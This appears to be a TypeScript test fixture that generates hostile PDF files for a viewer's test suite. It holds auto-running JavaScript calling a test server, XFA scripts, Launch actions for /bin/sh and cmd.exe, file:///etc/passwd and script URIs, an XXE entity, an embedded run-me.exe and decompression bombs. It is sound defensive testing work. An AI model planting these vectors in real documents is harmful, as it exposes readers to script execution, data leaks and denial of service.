import { deflateSync } from "node:zlib";
import { newDocument, stream } from "./raw-document.ts";

/** A document that wants to do something to whoever looks at its pages. */
export interface HostilePage {
  readonly name: string;
  readonly text: string;
}

interface Parts {
  readonly catalog?: string;
  readonly page?: string;
  readonly contents?: string;
  readonly more?: Readonly<Record<number, string>>;
}

const TEXT = "BT /F1 24 Tf 72 720 Td (read me) Tj ET";

/** One page of A4 with a line of text; objects from 10 on belong to the attack. */
function document({ catalog = "", page = "", contents = stream(TEXT), more = {} }: Parts): string {
  return newDocument({
    1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: `<< /Type /Page /Parent 2 0 R ${page.includes("/MediaBox") ? "" : "/MediaBox [0 0 595 842]"} /Contents 5 0 R
      ${page.includes("/Resources") ? "" : "/Resources << /Font << /F1 4 0 R >> >>"} ${page} >>`,
    4: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    5: contents,
    ...more,
  }).text;
}

/** Annex "JavaScript for Acrobat" and plain JavaScript: each of them would be seen. */
const script = (base: string): string =>
  `(globalThis.pwned = 1; try { app.launchURL\\("${base}/launch", true\\); } catch \\(e\\) {} ` +
  `try { this.submitForm\\("${base}/submit"\\); } catch \\(e\\) {} try { fetch\\("${base}/fetch"\\); } catch \\(e\\) {} app.alert\\("x"\\);)`;

/** ISO 32000-2 12.6.4.17: scripts at every place where a document may have one. */
function scripts(base: string): string {
  const js = `<< /S /JavaScript /JS ${script(base)} >>`;
  const triggers = ["E", "X", "D", "U", "Fo", "Bl", "PO", "PC", "PV", "PI"].map((name) => `/${name} ${js}`).join(" ");
  const field = (num: number, kind: string, y: number): string =>
    `<< /Type /Annot /Subtype /Widget /FT ${kind} /T (f${num}) /P 3 0 R /F 4 /Rect [72 ${y} 500 ${y + 40}] /DA (/F1 12 Tf 0 g)
      /MK << /CA (press) /BG [1 1 0] >> /AA << /K ${js} /F ${js} /V ${js} /C ${js} ${triggers} >> /A ${js} >>`;
  return document({
    catalog: `/OpenAction ${js} /AA << /WC ${js} /WS ${js} /DS ${js} /WP ${js} /DP ${js} >>
      /Names << /JavaScript << /Names [(a) ${js} (b) ${js}] >> >>
      /AcroForm << /Fields [10 0 R 11 0 R] /CO [10 0 R] /NeedAppearances true /DR << /Font << /F1 4 0 R >> >> >>`,
    page: `/AA << /O ${js} /C ${js} >> /Annots [10 0 R 11 0 R]`,
    more: { 10: field(10, "/Tx", 500), 11: `${field(11, "/Btn", 400).slice(0, -2)} /Ff 65536 >>` },
  });
}

/** A dynamic XFA form (XFA 3.3) whose events run scripts and load pictures. */
function xfa(base: string): string {
  const template = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
    <subform name="a" layout="tb"><pageSet><pageArea><contentArea w="200mm" h="280mm"/><medium stock="a4" short="210mm" long="297mm"/></pageArea></pageSet>
    <event activity="initialize"><script contentType="application/x-javascript">globalThis.pwned = 1; app.launchURL("${base}/xfa");</script></event>
    <draw w="50mm" h="50mm"><value><image href="${base}/xfa.png"/></value></draw>
    <field name="x" w="50mm" h="10mm"><event activity="docReady"><submit target="${base}/xfa-submit" format="xml"/></event></field></subform></template>
    <connectionSet xmlns="http://www.xfa.org/schema/xfa-connection-set/2.8/"><wsdlConnection name="w"><wsdlAddress>${base}/wsdl</wsdlAddress></wsdlConnection></connectionSet></xdp:xdp>`;
  return document({
    catalog: "/AcroForm << /Fields [] /XFA 10 0 R >> /NeedsRendering true",
    more: { 10: stream(template) },
  });
}

/** How high each link of the document with actions is, from the bottom of its page; all are as wide as the page. */
export const ACTION_BAND = 40;

/** Every action that leads out of a document (ISO 32000-2 12.6.4): a link for each, and all of them at its opening. */
function actions(base: string): string {
  const file = `<< /Type /Filespec /FS /URL /F (${base}/spec) /UF (${base}/spec) >>`;
  const all: Readonly<Record<string, string>> = {
    uri: `/S /URI /URI (${base}/uri)`,
    "uri-map": `/S /URI /IsMap true /URI (${base}/map)`,
    "uri-javascript": `/S /URI /URI (javascript:globalThis.pwned=1)`,
    "uri-file": "/S /URI /URI (file:///etc/passwd)",
    "uri-app": "/S /URI /URI (app://bundle/index.html)",
    "uri-bankid": "/S /URI /URI (bankid:///?autostarttoken=c5698d12-0cf4-4456-ae7b-d795f9967798&redirect=null)",
    "uri-data": "/S /URI /URI (data:text/html,<script>opener.pwned=1</script>)",
    launch: "/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> /NewWindow true",
    "go-to-remote": `/S /GoToR /F ${file} /D [0 /Fit] /NewWindow true`,
    "go-to-embedded": `/S /GoToE /F ${file} /D [0 /Fit] /NewWindow true`,
    submit: `/S /SubmitForm /F ${file} /Flags 4`,
    "import-data": `/S /ImportData /F ${file}`,
    rendition: `/S /Rendition /OP 0 /JS (globalThis.pwned = 1;) /R << /S /MR /C << /S /MCD /CT (video/mp4) /D ${file} >> >>`,
    movie: "/S /Movie /Operation /Play",
    sound: `/S /Sound /Sound << /Type /Sound /R 8000 /F ${file} /Length 0 >>`,
    "rich-media": "/S /RichMediaExecute /CMD << /C (go) >>",
    named: "/S /Named /N /Print",
    thread: `/S /Thread /F ${file} /D 0`,
  };
  const links = Object.values(all).map(
    (action, index) =>
      `<< /Type /Annot /Subtype /Link /Rect [0 ${index * ACTION_BAND} 595 ${(index + 1) * ACTION_BAND}] /Border [0 0 0] /A << ${action} /Next << ${action} >> >> >>`,
  );
  const atOpening = Object.values(all).map((action) => `<< ${action} >>`);
  return document({
    catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${atOpening.join(" ")}] >>`,
    page: `/MediaBox [0 0 595 ${links.length * ACTION_BAND}] /Annots [${links.join(" ")}]`,
  });
}

/** ISO 32000-2 7.3.8.2: streams whose data lie in another file, which is an address. */
function outsideData(base: string): string {
  const outside = (what: string): string =>
    `/F << /Type /Filespec /FS /URL /F (${base}/${what}) /UF (${base}/${what}) >> /FFilter /DCTDecode`;
  return document({
    contents: stream(
      `${TEXT} q 200 0 0 200 72 400 cm /Im Do Q q 200 0 0 200 300 400 cm /Im2 Do Q /Cs cs 0.5 0.5 0.5 sc 72 100 200 200 re f BT /F2 24 Tf 72 650 Td (x) Tj ET`,
    ),
    page: "/Resources << /Font << /F1 4 0 R /F2 12 0 R >> /XObject << /Im 10 0 R /Im2 15 0 R >> /ColorSpace << /Cs [/ICCBased 11 0 R] >> >> /Metadata 16 0 R",
    more: {
      10: stream(
        "",
        `/Type /XObject /Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8 /ColorSpace /DeviceRGB ${outside("image.jpg")}`,
      ),
      11: stream("", `/N 3 /Alternate /DeviceRGB ${outside("profile.icc")}`),
      12: "<< /Type /Font /Subtype /TrueType /BaseFont /Remote /FontDescriptor 13 0 R /FirstChar 120 /LastChar 120 /Widths [600] >>",
      13: "<< /Type /FontDescriptor /FontName /Remote /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 14 0 R >>",
      14: stream("", outside("font.ttf")),
      // ISO 32000-2 8.9.5.4: an image to be shown instead, at an address.
      15: stream(
        "\0".repeat(3),
        `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceRGB /OPI << /2.0 << /Type /OPI /Version 2.0 /F << /FS /URL /F (${base}/opi) >> >> >>`,
      ),
      16: stream(
        `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${base}/entity">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&e;</x:xmpmeta>`,
        "/Type /Metadata /Subtype /XML",
      ),
    },
  });
}

/** Annotations that play or hold other files (ISO 32000-2 12.5.6, 13). */
function attachments(base: string): string {
  const file = "<< /Type /Filespec /F (run-me.exe) /UF (run-me.exe) /EF << /F 10 0 R >> >>";
  const at = (y: number): string => `/Type /Annot /F 4 /P 3 0 R /Rect [0 ${y} 595 ${y + 100}]`;
  return document({
    catalog: `/Names << /EmbeddedFiles << /Names [(run-me.exe) ${file}] >> >> /PageMode /UseAttachments /Collection << /View /T >>`,
    page: `/Annots [<< ${at(0)} /Subtype /FileAttachment /FS ${file} >>
      << ${at(100)} /Subtype /Screen /A << /S /Rendition /OP 0 /AN null /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${base}/film) >> >> >> >> >>
      << ${at(200)} /Subtype /Movie /Movie << /F << /FS /URL /F (${base}/movie) >> >> /A true >>
      << ${at(300)} /Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) ${file}] >> >> /RichMediaSettings << /Activation << /Condition /PO >> >> >>
      << ${at(400)} /Subtype /3D /3DD 11 0 R /3DA << /A /PO >> >>
      << ${at(500)} /Subtype /FreeText /Contents (<img src=${base}/rich>) /RC (<body xmlns="http://www.w3.org/1999/xhtml"><img src="${base}/rc"/><a href="${base}/a">x</a><script>globalThis.pwned=1</script></body>) /DA (/F1 12 Tf) >>]`,
    more: { 10: stream("MZ", "/Type /EmbeddedFile"), 11: stream("U3D", "/Type /3D /Subtype /U3D") },
  });
}

const deflated = (data: Buffer, times = 1): string => {
  let bytes = data;
  for (let time = 0; time < times; time += 1) bytes = deflateSync(bytes, { level: 9 });
  return bytes.toString("latin1");
};

/** Things that are too much: boxes, lists, depth, data. None is malformed. */
function excesses(): readonly HostilePage[] {
  const notes = Array.from({ length: 6_000 }, (_, index) => {
    const [x, y] = [(index % 60) * 9, Math.floor(index / 60) * 8];
    return `<< /Type /Annot /Subtype /Text /Rect [${x} ${y} ${x + 8} ${y + 7}] /Contents (note ${index}) /F 4 >>`;
  });
  const deepPages = Object.fromEntries(
    Array.from({ length: 3_000 }, (_, level) => [
      10 + level,
      `<< /Type /Pages /Kids [${level === 2_999 ? "3" : String(11 + level)} 0 R] /Count 1 >>`,
    ]),
  );
  const bomb = Buffer.alloc(200_000_000, " 0 0 m");
  return [
    { name: "huge-box", text: document({ page: "/MediaBox [-1e9 -1e9 1e9 1e9] /UserUnit 75000" }) },
    { name: "tiny-box", text: document({ page: "/MediaBox [0 0 0.0001 0.0001]" }) },
    { name: "box-of-nonsense", text: document({ page: "/MediaBox [(a) null 1e308 -1e308] /Rotate 37 /UserUnit -5" }) },
    { name: "thousands-of-notes", text: document({ page: `/Annots [${notes.join(" ")}]` }) },
    {
      name: "deep-page-tree",
      text: newDocument({
        1: "<< /Type /Catalog /Pages 10 0 R >>",
        3: "<< /Type /Page /Parent 3009 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
        ...deepPages,
      }).text,
    },
    { name: "deep-array", text: document({ catalog: `/Deep ${"[".repeat(40_000)}${"]".repeat(40_000)}` }) },
    { name: "deep-graphics", text: document({ contents: stream("q ".repeat(200_000) + TEXT) }) },
    {
      name: "endless-outline",
      text: document({
        catalog: "/Outlines 10 0 R /PageMode /UseOutlines",
        more: {
          10: "<< /First 11 0 R /Last 11 0 R /Count 1 >>",
          11: "<< /Title (a) /Parent 10 0 R /Next 11 0 R /First 11 0 R >>",
        },
      }),
    },
    {
      name: "form-in-itself",
      text: document({
        contents: stream("/X Do"),
        page: "/Resources << /XObject << /X 10 0 R >> >>",
        more: {
          10: stream(
            "/X Do /X Do",
            "/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /X 10 0 R >> >>",
          ),
        },
      }),
    },
    { name: "bomb", text: document({ contents: stream(deflated(bomb), "/Filter /FlateDecode") }) },
    {
      name: "bomb-in-a-bomb",
      text: document({ contents: stream(deflated(bomb, 3), "/Filter [/FlateDecode /FlateDecode /FlateDecode]") }),
    },
    {
      name: "giant-picture",
      text: document({
        contents: stream("q 500 0 0 500 50 50 cm /Im Do Q"),
        page: "/Resources << /XObject << /Im 10 0 R >> >>",
        more: {
          10: stream(
            deflated(Buffer.alloc(1_000_000)),
            "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode",
          ),
        },
      }),
    },
    {
      name: "endless-tiling",
      text: document({
        contents: stream("/Pattern cs /P scn 0 0 595 842 re f"),
        page: "/Resources << /Pattern << /P 10 0 R >> >>",
        more: {
          10: stream(
            "0 0 1 1 re f",
            "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.00001 /YStep 0.00001 /Resources << >>",
          ),
        },
      }),
    },
  ];
}

/** @param base the address of a server that counts, without a slash at the end */
export function hostilePages(base: string): readonly HostilePage[] {
  return [
    { name: "scripts", text: scripts(base) },
    { name: "xfa", text: xfa(base) },
    { name: "outside-data", text: outsideData(base) },
    { name: "attachments", text: attachments(base) },
    { name: "actions", text: actions(base) },
    ...excesses(),
  ];
}
